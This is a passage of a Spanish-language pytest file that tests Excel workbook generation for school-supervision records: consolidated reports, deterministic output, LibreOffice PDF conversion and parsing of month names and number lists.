    assert sorted(r.operator for r in reglas) == ["greaterThanOrEqual", "lessThan"]
    with zipfile.ZipFile(ruta) as z:
        assert any(n.startswith("xl/charts/") for n in z.namelist())


def test_consolidados_sin_valoraciones_todavia(tmp_path, datos_ejemplo):
    vacias = ("visitas", "gias", "valoraciones", "valoraciones_directivo", "talleres", "planes_mensuales", "sucesos",
              "buenas_practicas", "narrativas", "numeros_informe")
    datos = {**datos_ejemplo, **dict.fromkeys(vacias, [])}
    exp = modulo_expediente.validar_expediente(datos).expediente
    # el año no ha cerrado: los consolidados solo salen como borrador (ver tests/test_periodos.py)
    resumen = formatos.generar(exp, tmp_path, formatos=["consolidado-valoraciones", "consolidado-protocolo"], borradores=True)
    assert len(resumen.resultados) == 4 and not resumen.fallidos and all(r.entrada.borrador for r in resumen.resultados)
    ruta = next(r.ruta for r in resumen.resultados if "UGEL" in r.ruta.name and r.formato == "consolidado-valoraciones")
    libro = load_workbook(ruta)
    assert "(sin datos todavía)" in [c.value for c in libro["Logro por mes"]["A"]]
    with zipfile.ZipFile(ruta) as z:
        assert len([n for n in z.namelist() if n.startswith("xl/charts/chart")]) == 2  # los de inicio y término
    protocolo = _filas(next(r.ruta for r in resumen.resultados if r.formato == "consolidado-protocolo"), "Por docente", "AP")
    assert {f["Ejecutado"] for f in protocolo} == {0}


def test_consolidados_deterministas(demo, carga_ejemplo, tmp_path):
    otra = formatos.generar(carga_ejemplo.expediente, tmp_path, formatos=["consolidado-valoraciones", "consolidado-protocolo"])
    for r in otra.resultados:
        assert r.ruta.read_bytes() == (demo.salida / r.ruta.relative_to(tmp_path)).read_bytes()


@pytest.mark.libreoffice
def test_libreoffice_abre_los_libros(demo, tmp_path):
    libros = [r.ruta for r in demo.resultados if r.ruta.suffix == ".xlsx"] + [LIBRO_EJEMPLO]
    for i, ruta in enumerate(libros):  # nombres ASCII para soffice
        (tmp_path / f"libro{i}.xlsx").write_bytes(ruta.read_bytes())
    perfil = tmp_path / "perfil"
    subprocess.run(["soffice", f"-env:UserInstallation=file://{perfil}", "--headless", "--convert-to", "pdf",
                    "--outdir", str(tmp_path / "pdf"), *sorted(str(p) for p in tmp_path.glob("libro*.xlsx"))],
                   check=True, capture_output=True, timeout=300)
    pdfs = sorted((tmp_path / "pdf").glob("*.pdf"))
    assert len(pdfs) == len(libros)
    textos = [subprocess.run(["pdftotext", str(p), "-"], capture_output=True, text=True, check=True).stdout for p in pdfs]
    assert sum("Consolidado de valoraciones" in t for t in textos) == 3
    assert any("Protocolo efectivo" in t for t in textos)
    assert any("Libro de captura" in t for t in textos)


def test_meses_por_su_nombre(tmp_path, carga_ejemplo):
    """Un mes se puede escribir por su nombre, como en el calendario de la UGEL ("Abril", "set.", "mayo")."""
    libro = load_workbook(io.BytesIO(a_excel(carga_ejemplo.expediente)))
    actividades, cols = _hoja(libro, "Plan anual UGEL - Actividades")
    actividades.cell(2, cols["Meses"], "mayo, Julio; set.\nnoviembre")
    planes, cols = _hoja(libro, "Planes mensuales")
    filas = {n: [f for f in range(2, planes.max_row + 1) if planes.cell(f, cols["N.°"]).value == n] for n in (1, 2)}
    for fila in filas[1]:  # las filas de un mismo plan (una por parada de la ruta)
        planes.cell(fila, cols["Mes"], " Abril ")
    for fila in filas[2]:
        planes.cell(fila, cols["Mes"], "mayito")
    libro.save(tmp_path / "libro.xlsx")
    carga = cargar(tmp_path / "libro.xlsx")
    errores = [(p.ubicacion, p.mensaje) for p in carga.problemas if p.gravedad == "error"]
    assert errores == [(f"Hoja Planes mensuales, filas {filas[2][0]} a {filas[2][-1]}, columna Mes",
                        'no es un mes: escriba su número (5) o su nombre ("mayo"); se recibió "mayito"')]
    original = carga_ejemplo.expediente
    assert carga.expediente.planes_anuales_ugel == original.planes_anuales_ugel
    assert carga.expediente.planes_mensuales[0] == original.planes_mensuales[0]


def test_una_palabra_en_una_lista_de_numeros_es_un_error(tmp_path, carga_ejemplo):
    """En una lista de números, una palabra que no es un número ni un mes no se pierde en silencio."""
    libro = load_workbook(io.BytesIO(a_excel(carga_ejemplo.expediente)))
    docentes, cols = _hoja(libro, "Docentes")
    docentes.cell(2, cols["Grados"], "1.°, 2.° y cinco")
    libro.save(tmp_path / "libro.xlsx")
    carga = cargar(tmp_path / "libro.xlsx")
    assert [(p.ubicacion, p.mensaje) for p in sin_las_del_ejemplo(carga.problemas) if "Hoja Docentes" in p.ubicacion] == [
        ("Hoja Docentes, fila 2, columna Grados", f'«cinco» no es un grado: {GRADOS_ESPERADOS} '
                                                  '(se recibió ["1.°", "2.°", "cinco"])')]
